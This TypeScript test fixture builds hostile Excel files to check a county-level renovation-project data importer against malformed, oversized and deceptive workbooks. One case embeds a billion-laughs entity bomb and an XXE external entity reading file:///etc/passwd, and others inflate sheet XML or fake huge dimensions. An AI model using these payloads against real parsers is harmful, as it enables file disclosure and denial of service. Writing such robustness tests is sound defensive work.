  content("unknown-county", "县区（或范围、级别、角色）不存在", (s) => [withCells(s, [s.lookups[0]], "火星区")], { identities: BOTH }),
  content("unknown-source-or-project", "资金来源、项目编号、改造内容或上级编码不存在", (s) => [withCells(s, s.lookups.slice(1), "371302-2099-999"), withCells(s, s.lookups.slice(0, 1), "外星补助", s.other)], { identities: BOTH }),
  content(
    "other-county-row",
    "县区账户导入罗庄区的行（另一县区的项目、小区）",
    (s) => [Object.fromEntries(Object.entries(s.base).map(([h, v]) => [h, h === "县区" ? "罗庄区" : typeof v === "string" ? v.replace("371302", "371311") : v]))],
    { identities: ["county"] },
  ),
  content("many-bad-rows", "1,000 行各有问题（问题列表应截断在 500 处）", (s) => Array.from({ length: 1000 }, (_, i) => withCells(s, [s.lookups[0]], `不存在${i}`)), { identities: BOTH }),

  // Sheets and structure.
  {
    name: "ten-thousand-columns",
    description: "表头之后另有 10,000 列，另有毒丸行",
    build: (s) => {
      const headers = [...s.headers, ...Array.from({ length: 10_000 }, (_, i) => `多余列${i + 1}`)];
      return workbook(s, poisoned(s, s.base), { headers });
    },
  },
  {
    name: "dimension-claims-max",
    description: "<dimension> 声称 A1:XFD1048576（实际只有三行），另有毒丸行",
    build: async (s) => patchEntry(await workbook(s, poisoned(s, s.base)), SHEET1, (xml) => appendRows(xml, "", "A1:XFD1048576")),
  },
  {
    name: "last-row-1048576",
    description: "第 1,048,576 行（最后一行）有一格，dimension 为 A1:XFD1048576：几百字节声称一百万行",
    build: async (s) =>
      patchEntry(await workbook(s, poisoned(s, s.base)), SHEET1, (xml) =>
        appendRows(xml, `<row r="1048576" spans="1:1">${inline("A1048576", "尾")}</row>`, "A1:XFD1048576"),
      ),
  },
  {
    name: "cell-at-xfd1",
    description: "表头行最后一列 XFD1（第 16,384 列）有一格，另有毒丸行",
    build: async (s) => patchEntry(await workbook(s, poisoned(s, s.base)), SHEET1, (xml) => xml.replace(/(<row r="1"[^>]*>.*?)(<\/row>)/s, `$1${inline("XFD1", "尾列")}$2`)),
  },
  {
    name: "many-sheets",
    description: "200 张工作表，数据在最后一张，另有毒丸行",
    build: async (s) => {
      const wb = new ExcelJS.Workbook();
      for (let i = 1; i < 200; i++) wb.addWorksheet(`空表${i}`).addRow([`第${i}张`]);
      const ws = wb.addWorksheet(s.sheetName);
      ws.addRow(s.headers);
      for (const r of poisoned(s, s.base)) ws.addRow(s.headers.map((h) => r[h] ?? null));
      return Buffer.from(await wb.xlsx.writeBuffer());
    },
  },
  {
    name: "hidden-rows-and-sheet",
    description: "数据行隐藏、另一张隐藏工作表也有表头，另有毒丸行",
    build: (s) =>
      workbook(s, poisoned(s, s.base), {
        touch: (ws, wb) => {
          ws.getRow(2).hidden = true;
          const hidden = wb.addWorksheet("隐藏");
          hidden.state = "veryHidden";
          hidden.addRow(s.headers);
          hidden.addRow(s.headers.map((h) => s.other[h] ?? null));
        },
      }),
  },
  {
    name: "shared-string-out-of-range",
    description: "数据行各格引用不存在的共享字符串（索引 99999、-1、abc）",
    build: (s) => rawRow(s, (h, ref) => `<c r="${ref}" t="s"><v>${["99999", "-1", "abc"][s.headers.indexOf(h) % 3]}</v></c>`),
  },
  {
    name: "cell-type-mismatch",
    description: "数字格 <v>abc</v>、布尔格 <v>2</v>、日期格 <v>notadate</v>、数字格 NaN/Infinity/1e308",
    build: (s) =>
      rawRow(s, (h, ref) => {
        if (amountsOr(s).includes(h)) return `<c r="${ref}"><v>${["NaN", "Infinity", "1e308"][s.headers.indexOf(h) % 3]}</v></c>`;
        if (datesOr(s).includes(h)) return `<c r="${ref}" t="d"><v>notadate</v></c>`;
        if (s.lookups[0] === h) return `<c r="${ref}" t="b"><v>2</v></c>`;
        if (s.keys[0] === h) return `<c r="${ref}" t="n"><v>abc</v></c>`;
        return baseInline(s, h, ref);
      }),
  },
  {
    name: "inline-strings",
    description: "全部为 inlineStr 单元格（exceljs 不这样写），另有毒丸行",
    build: (s) => rawRow(s, (h, ref) => baseInline(s, h, ref)),
  },
  {
    name: "sheet-xml-malformed",
    description: "sheet1.xml 在一格中间截断",
    build: async (s) => patchEntry(await workbook(s, [s.base]), SHEET1, (xml) => xml.slice(0, xml.indexOf("<sheetData>") + 40)),
  },
  {
    name: "shared-strings-malformed",
    description: "sharedStrings.xml 不是合法 XML",
    build: async (s) => patchEntry(await workbook(s, [s.base]), STRINGS, () => '<?xml version="1.0"?><sst><si><t>未闭合'),
  },
  {
    name: "entity-expansion",
    description: "sharedStrings.xml 带 DOCTYPE：十亿笑（实体嵌套）与外部实体 file:///etc/passwd",
    build: async (s) =>
      patchEntry(await workbook(s, [s.base]), STRINGS, (xml) =>
        xml
          .replace(
            /^<\?xml[^>]*\?>/,
            (decl) =>
              `${decl}<!DOCTYPE sst [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY x SYSTEM "file:///etc/passwd">]>`,
          )
          .replace(/<t>([^<]*)<\/t>/, "<t>&d;&x;</t>"),
      ),
  },
  {
    name: "styles-missing",
    description: "去掉 xl/styles.xml（日期格没有格式），另有毒丸行",
    build: async (s) => patchZip(await workbook(s, poisoned(s, s.base)), (zip) => void zip.remove("xl/styles.xml")),
  },
  {
    name: "content-types-missing",
    description: "去掉 [Content_Types].xml，另有毒丸行",
    build: async (s) => patchZip(await workbook(s, poisoned(s, s.base)), (zip) => void zip.remove("[Content_Types].xml")),
  },
  {
    name: "long-sheet-name",
    description: "工作表名 300 个字符（Excel 限 31），另有毒丸行",
    build: async (s) => patchEntry(await workbook(s, poisoned(s, s.base)), WORKBOOK, (xml) => xml.replace(/<sheet name="[^"]*"/, `<sheet name="${"表".repeat(300)}"`)),
  },
  {
    name: "unicode-sheet-name",
    description: "工作表名含 RTL 覆盖符、emoji、引号与 <>&，另有毒丸行",
    build: async (s) => patchEntry(await workbook(s, poisoned(s, s.base)), WORKBOOK, (xml) => xml.replace(/<sheet name="[^"]*"/, '<sheet name="\u202e数据🏠&apos;!&lt;&gt;&amp;"')),
  },
  {
    name: "inflated-sheet-xml",
    description: "sheet1.xml 中有 4 MB 空白（压缩后只有几 KB），另有毒丸行",
    build: async (s) => patchEntry(await workbook(s, poisoned(s, s.base)), SHEET1, (xml) => xml.replace("<sheetData>", `<sheetData>${" ".repeat(4 * 1024 * 1024)}`)),
  },
];

/** A workbook of the kind's sheet with the given rows, for the test's controls. */
export const sheetWorkbook = (kind: ImportKindName, rows: ("base" | "other" | "poison")[]) => workbook(SHEETS[kind], rows.map((r) => SHEETS[kind][r]));

async function emptyWorkbook() {
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet("Sheet1");
  return wb.xlsx.writeBuffer();
}

/** The file of a case for a kind, with the name it is uploaded as. */
export async function buildHostileFile(c: HostileCase, kind: ImportKindName): Promise<{ fileName: string; data: Buffer }> {
  return { fileName: c.fileName ?? `${c.name}.xlsx`, data: await c.build(SHEETS[kind]) };
}
